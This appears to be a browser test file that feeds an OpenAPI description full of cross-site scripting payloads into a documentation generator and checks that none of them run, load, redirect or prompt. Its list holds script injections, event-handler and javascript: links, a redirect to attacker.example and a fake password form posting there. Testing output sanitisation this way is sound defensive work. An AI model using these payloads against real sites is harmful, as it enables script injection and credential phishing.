// A docs page generated from a hostile description, in a real browser: all of its content must be text.
// @module-tag long
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { docsStep } from "../../scripts/generate/steps/docs.ts";
import { SpecReader } from "../../scripts/model/files/reader.ts";
import { startBrowser } from "../support/browser.ts";
import { filesOf } from "../support/steps.ts";

let browser: Browser | undefined;
let reason = "";
beforeAll(async () => {
  browser = await startBrowser().catch((error: Error) => {
    reason = error.message;
    return undefined;
  });
});
beforeEach((context) => {
  if (!browser) context.skip(reason);
});
afterAll(() => browser?.close());

const hostile = [
  "SEEN",
  '<script>globalThis.ran = "script"</script>',
  '<img src="x" onerror="globalThis.ran = 1">',
  '<svg onload="globalThis.ran = 2"><script>globalThis.ran = 3</script></svg>',
  '<meta http-equiv="refresh" content="0; url=https://attacker.example/">',
  '<base href="https://attacker.example/">',
  '<iframe src="https://attacker.example/"></iframe>',
  '<iframe srcdoc="<script>parent.ran = 4</script>"></iframe>',
  '<form action="https://attacker.example/"><input name="password"><button>Sign in</button></form>',
  '<object data="data:text/html,x"></object><embed src="https://attacker.example/x">',
  '<link rel="stylesheet" href="https://attacker.example/x.css"><style>body{display:none}</style>',
  '<a href="javascript:globalThis.ran=5">a</a><a href="data:text/html,<script>1</script>">b</a>',
  "[c](javascript:globalThis.ran=6) [d](data:text/html,x) [e](&#106;avascript:globalThis.ran=7) [f][g]",
  "[g]: javascript:globalThis.ran=8",
  "<javascript:globalThis.ran=9>",
  "</script><script>globalThis.ran = 10</script>",
  "`<form>` and ``` <meta http-equiv=refresh content=0> ```",
].join("\n\n");

const link = "javascript:globalThis.ran=11";
const description = {
  openapi: "3.1.0",
  info: {
    title: `</title></script>${hostile}`,
    version: "1",
    description: hostile,
    termsOfService: link,
    contact: { name: "c", url: link },
    license: { name: "l", url: ` ${link}` },
  },
  externalDocs: { description: hostile, url: link },
  servers: [{ url: "https://api.example", description: hostile }],
  "x-history": {
    [hostile]: {
      date: "2027-01-01",
      changes: [{ class: "breaking", operations: ["listPets", hostile], place: hostile, text: hostile }],
    },
  },
  tags: [{ name: "Pets", description: hostile, externalDocs: { url: "data:text/html,x" } }],
  paths: {
    "/pets": {
      get: {
        operationId: "listPets",
        deprecated: true,
        tags: ["Pets"],
        summary: "List </script><script>globalThis.ran = 12</script>",
        description: hostile,
        parameters: [
          { name: "q", in: "query", description: hostile, schema: { type: "string", description: hostile } },
        ],
        responses: {
          200: {
            description: hostile,
            content: {
              "application/json": {
                schema: { type: "object", title: hostile, properties: { a: { type: "string", description: hostile } } },
                example: { a: "</script><script>globalThis.ran = 13</script>" },
              },
            },
          },
        },
      },
    },
  },
};

test("a hostile document runs, loads, redirects and prompts nothing", { timeout: 90_000 }, async () => {
  const folder = mkdtempSync(join(tmpdir(), "infrarun-docs-"));
  try {
    const file = join(folder, "--> <script>globalThis.ran = 14<!--.json".replaceAll("/", ""));
    writeFileSync(file, JSON.stringify(description));
    const { spec } = await new SpecReader(file).read();
    const [page] = await filesOf(docsStep, spec);
    writeFileSync(join(folder, "index.html"), page!.text);
    const context = await browser!.newContext({ viewport: { width: 1440, height: 900 } });
    const tab = await context.newPage();
    const asked: string[] = [];
    tab.on("request", (request) => {
      if (!/^(file|data|blob):/.test(request.url())) asked.push(request.url());
    });
    const address = pathToFileURL(join(folder, "index.html")).href;

    for (const fragment of ["", "#/pets/listpets", "#/pets"]) {
      await tab.goto(address + fragment);
      await tab.getByText("SEEN").first().waitFor();
      await tab.waitForTimeout(500);
      const found = await tab.evaluate(() => {
        // Redoc has an inline script, which the security policy blocks.
        const isOwn = (element: Element) => element.textContent?.startsWith("try{var m=localStorage") ?? false;
        const text = (element: Element) => element.outerHTML.slice(0, 100);
        const active =
          "#redoc :is(iframe, form[action], meta, base, object, embed, link, script, input[name=password])";
        const handlers = [...document.querySelectorAll("#redoc *")].filter((element) =>
          [...element.attributes].some(({ name }) => name.startsWith("on")),
        );
        const links = [...document.querySelectorAll("#redoc [href]")].filter((element) =>
          /^[\s\p{C}]*(javascript|data|vbscript):/iu.test(element.getAttribute("href") ?? ""),
        );
        return {
          ran: (globalThis as { ran?: unknown }).ran,
          elements: [
            ...[...document.querySelectorAll(active)].filter((each) => !isOwn(each)),
            ...handlers,
            ...links,
          ].map(text),
          isVisible: getComputedStyle(document.body).display !== "none",
        };
      });

      expect(found).toEqual({ ran: undefined, elements: [], isVisible: true });
      expect(tab.url().split("#")[0]).toBe(address);
    }
    expect(await tab.evaluate(() => (globalThis as { ran?: unknown }).ran)).toBeUndefined();
    expect(asked).toEqual([]);
    await context.close();
  } finally {
    rmSync(folder, { recursive: true });
  }
});
